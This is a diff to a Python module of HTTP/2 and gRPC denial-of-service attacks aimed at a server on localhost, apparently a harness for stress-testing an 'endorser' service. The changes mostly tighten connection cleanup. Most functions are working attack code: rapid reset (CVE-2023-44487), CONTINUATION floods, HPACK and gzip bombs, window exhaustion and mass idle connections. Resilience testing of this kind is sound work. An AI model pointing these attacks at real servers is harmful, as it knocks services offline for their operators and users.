@@ -17,8 +17,10 @@ import struct
 import sys
 import time
 from collections.abc import Callable, Iterator
+from contextlib import ExitStack
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Self
 
 from hpack import Encoder
 from hyperframe.frame import (
@@ -64,7 +66,11 @@ class Target:
         context = ssl.create_default_context(cafile=str(self.roots))
         context.check_hostname = False
         context.set_alpn_protocols(["h2"])
-        return context.wrap_socket(plain)
+        try:
+            return context.wrap_socket(plain)
+        except BaseException:
+            plain.close()
+            raise
 
 
 class Connection:
@@ -76,7 +82,19 @@ class Connection:
         self._encoder = Encoder()
         self._next = 1
         settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window})
-        self.send(PREFACE + settings.serialize())
+        try:
+            self.send(PREFACE + settings.serialize())
+        except BaseException:
+            self.close()
+            raise
+
+    def __enter__(self) -> Self:
+        """Use the connection."""
+        return self
+
+    def __exit__(self, *failed: object) -> None:
+        """Hang up."""
+        self.close()
 
     def send(self, content: bytes) -> None:
         """Send bytes, whatever they are.
@@ -92,7 +110,7 @@ class Connection:
         self.send(b"".join(frame.serialize() for frame in frames))
 
     def call(
-        self, path: str, content: bytes = b"", *, ends: bool = False, more: dict[str, str] = {}
+        self, path: str, content: bytes = b"", *, ends: bool = False, encoding: str = "identity"
     ) -> bytes:
         """Return what begins a call, with some bytes of its messages."""
         stream, self._next = self._next, self._next + 2
@@ -103,8 +121,9 @@ class Connection:
             ":authority": "localhost",
             "content-type": "application/grpc",
             "te": "trailers",
+            "grpc-encoding": encoding,
         }
-        headers = HeadersFrame(stream, self._encoder.encode(fields | more), flags=["END_HEADERS"])
+        headers = HeadersFrame(stream, self._encoder.encode(fields), flags=["END_HEADERS"])
         if ends and not content:
             headers.flags.add("END_STREAM")
         if not content:
@@ -157,21 +176,21 @@ def announced(length: int, content: bytes = b"") -> bytes:
     return struct.pack(">BI", 0, length) + content
 
 
-def _again(until: float, session: Callable[[], None]) -> None:
+def _again(target: Target, until: float, session: Callable[[Connection], None]) -> None:
     """Hold sessions one after another until the time is over."""
     while time.monotonic() < until:
-        with contextlib.suppress(OSError):
-            session()
+        with contextlib.suppress(OSError), Connection(target) as connection:
+            session(connection)
         time.sleep(PAUSE_S)
 
 
-def _opened(target: Target, most: int, until: float) -> Iterator[Connection]:
+def _opened(target: Target, most: int, until: float, stack: ExitStack) -> Iterator[Connection]:
     """Connect as often as the server takes, at most so often."""
     for _ in range(most):
         if time.monotonic() >= until:
             return
         try:
-            yield Connection(target)
+            yield stack.enter_context(Connection(target))
         except OSError:
             return
 
@@ -184,14 +203,15 @@ def _hold(held: list[Connection], until: float) -> None:
 
 def _calls_that_stay(target: Target, until: float, path: str, calls: int, content: bytes) -> None:
     """Begin calls on 10 connections and leave them so."""
-    held = []
-    for connection in _opened(target, 10, until):
-        with contextlib.suppress(OSError):
-            for _ in range(0, calls // 10, 50):
-                connection.send(b"".join(connection.call(path, content) for _ in range(50)))
-                connection.drop_received()
-            held.append(connection)
-    _hold(held, until)
+    with ExitStack() as stack:
+        held = []
+        for connection in _opened(target, 10, until, stack):
+            with contextlib.suppress(OSError):
+                for _ in range(0, calls // 10, 20):
+                    connection.send(b"".join(connection.call(path, content) for _ in range(20)))
+                    connection.drop_received()
+                held.append(connection)
+        _hold(held, until)
 
 
 def unfinished_messages(target: Target, until: float) -> None:
@@ -202,17 +222,16 @@ def unfinished_messages(target: Target, until: float) -> None:
 def filled_windows(target: Target, until: float) -> None:
     """Announce 99 MB, and send as much of it as the server takes on 12 connections."""
 
-    def session() -> None:
+    with ExitStack() as stack:
         held = []
-        for connection in _opened(target, 12, until):
+        for connection in _opened(target, 12, until, stack):
             held.append(connection)
-            for _ in range(4):
-                connection.send(connection.call(ENDORSER, announced(HUGE, bytes(16_000))))
-                for _ in range(3):
-                    connection.frames(DataFrame(connection.last, bytes(16_000)))
+            with contextlib.suppress(OSError):
+                for _ in range(4):
+                    connection.send(connection.call(ENDORSER, announced(HUGE, bytes(16_000))))
+                    for _ in range(3):
+                        connection.frames(DataFrame(connection.last, bytes(16_000)))
         _hold(held, until)
-
-    _again(until, session)
 
 
 def headers_only_gateway(target: Target, until: float) -> None:
@@ -233,29 +252,28 @@ def headers_only_everywhere(target: Target, until: float) -> None:
 def empty_calls_never_taken(target: Target, until: float) -> None:
     """Call with empty messages, and let no answer come."""
 
-    def session() -> None:
-        connection = Connection(target, window=0)
-        for _ in range(24_000 // 100):
-            calls = (connection.call(ENDORSER, framed(b""), ends=True) for _ in range(100))
-            connection.send(b"".join(calls))
-            connection.drop_received()
-            if time.monotonic() >= until:
-                return
-        _hold([connection], until)
-
-    _again(until, session)
+    while time.monotonic() < until:
+        with contextlib.suppress(OSError), Connection(target, window=0) as connection:
+            for _ in range(24_000 // 100):
+                calls = (connection.call(ENDORSER, framed(b""), ends=True) for _ in range(100))
+                connection.send(b"".join(calls))
+                connection.drop_received()
+                if time.monotonic() >= until:
+                    return
+            _hold([connection], until)
 
 
 def silent_connections(target: Target, until: float) -> None:
     """Hold 1,500 connections without a call."""
-    _hold(list(_opened(target, 1_500, until)), until)
+    with ExitStack() as stack:
+        _hold(list(_opened(target, 1_500, until, stack)), until)
 
 
 def silent_sockets(target: Target, until: float) -> None:
     """Hold 1,500 connections that do not begin TLS."""
     held = []
     with contextlib.suppress(OSError):
-        for _ in range(1_500):
+        while len(held) < 1_500:
             held.append(socket.create_connection(("127.0.0.1", target.port), PATIENCE_S))
     time.sleep(max(0, until - time.monotonic()))
     for each in held:
@@ -268,15 +286,14 @@ def _flood(frame: Callable[[], Frame], *, reads: bool = True) -> Attack:
     def attack(target: Target, until: float) -> None:
         batch = frame().serialize() * BATCH
 
-        def session() -> None:
-            connection = Connection(target)
+        def session(connection: Connection) -> None:
             connection.send(connection.call(ENDORSER))
             while time.monotonic() < until:
                 connection.send(batch)
                 if reads:
                     connection.drop_received()
 
-        _again(until, session)
+        _again(target, until, session)
 
     return attack
 
@@ -284,8 +301,7 @@ def _flood(frame: Callable[[], Frame], *, reads: bool = True) -> Attack:
 def rapid_reset(target: Target, until: float) -> None:
     """Begin calls and take them back at once (CVE-2023-44487)."""
 
-    def session() -> None:
-        connection = Connection(target)
+    def session(connection: Connection) -> None:
         while time.monotonic() < until:
             batch = []
             for _ in range(100):
@@ -294,14 +310,13 @@ def rapid_reset(target: Target, until: float) -> None:
             connection.send(b"".join(batch))
             connection.drop_received()
 
-    _again(until, session)
+    _again(target, until, session)
 
 
 def made_you_reset(target: Target, until: float) -> None:
     """Begin calls and have the server take them back, by windows that overflow."""
 
-    def session() -> None:
-        connection = Connection(target)
+    def session(connection: Connection) -> None:
         while time.monotonic() < until:
             batch = []
             for _ in range(100):
@@ -311,36 +326,34 @@ def made_you_reset(target: Target, until: float) -> None:
             connection.send(b"".join(batch))
             connection.drop_received()
 
-    _again(until, session)
+    _again(target, until, session)
 
 
 def continuation_flood(target: Target, until: float) -> None:
     """Begin headers that never end."""
 
-    def session() -> None:
-        connection = Connection(target)
+    def session(connection: Connection) -> None:
         connection.frames(HeadersFrame(1, Encoder().encode({":method": "POST"})))
         more = ContinuationFrame(1, b"\x00\x01a\x7f\x81\x7f" + b"a" * 256).serialize()
         while time.monotonic() < until:
             connection.send(more)
             connection.drop_received()
 
-    _again(until, session)
+    _again(target, until, session)
 
 
 def hpack_bomb(target: Target, until: float) -> None:
     """Name a large field once, and then by one byte, thousands of times."""
     large = b"\x40\x01a\x7f\x81\x1e" + b"a" * 4_000
 
-    def session() -> None:
-        connection = Connection(target)
+    def session(connection: Connection) -> None:
         stream = 1
         while time.monotonic() < until:
             connection.frames(HeadersFrame(stream, large + b"\xbe" * 12_000, flags=["END_HEADERS"]))
             connection.drop_received()
             stream += 2
 
-    _again(until, session)
+    _again(target, until, session)
 
 
 def gzip_bomb(target: Target, until: float) -> None:
@@ -348,30 +361,28 @@ def gzip_bomb(target: Target, until: float) -> None:
     bomb = framed(gzip.compress(bytes(64 << 20)), compressed=True)
     parts = [bomb[at : at + 16_000] for at in range(0, len(bomb), 16_000)]
 
-    def session() -> None:
-        connection = Connection(target)
+    def session(connection: Connection) -> None:
         while time.monotonic() < until:
-            connection.send(connection.call(ENDORSER, more={"grpc-encoding": "gzip"}))
+            connection.send(connection.call(ENDORSER, encoding="gzip"))
             connection.frames(*(DataFrame(connection.last, part) for part in parts))
             connection.frames(DataFrame(connection.last, b"", flags=["END_STREAM"]))
             connection.drop_received()
 
-    _again(until, session)
+    _again(target, until, session)
 
 
 def _calls(content: bytes, path: str) -> Attack:
     """Call again and again, as fast as the server takes it."""
 
     def attack(target: Target, until: float) -> None:
-        def session() -> None:
-            connection = Connection(target)
+        def session(connection: Connection) -> None:
             while time.monotonic() < until:
                 calls = (connection.call(path, content, ends=True) for _ in range(50))
                 connection.send(b"".join(calls))
                 connection.drop_received()
                 connection.frames(WindowUpdateFrame(0, 1 << 16))
 
-        _again(until, session)
+        _again(target, until, session)
 
     return attack
 
